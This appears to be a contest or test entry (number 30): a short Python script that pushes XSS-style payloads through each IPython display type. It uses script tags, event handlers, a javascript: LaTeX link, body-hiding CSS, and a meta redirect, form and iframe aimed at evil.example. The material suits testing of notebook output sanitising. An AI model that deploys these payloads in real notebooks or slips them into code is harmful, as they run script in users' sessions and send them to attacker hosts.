# attack: HTML, JavaScript, SVG, LaTeX y Markdown en las salidas
# entry: 30

from IPython.display import HTML, SVG, IFrame, Javascript, Latex, Markdown, display
RUN = "document.title='GANA'"
display(HTML(f"<script>{RUN}</script><img src=x onerror=\"{RUN}\"><style>body{{display:none}}</style>"))
display(HTML('<meta http-equiv="refresh" content="0;url=http://evil.example/"><form action="http://evil.example/"><input></form>'))
display(SVG(f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{RUN}\"><script>{RUN}</script></svg>"))
display(Javascript(RUN))
display(Markdown(f"<script>{RUN}</script>"))
display(Latex(r"$\href{javascript:" + RUN + r"}{x}$"))
display(IFrame("http://evil.example/", 100, 100))
display({"text/html": f"<b onclick={RUN}>x</b>", "text/plain": f"<script>{RUN}</script>"}, raw=True)
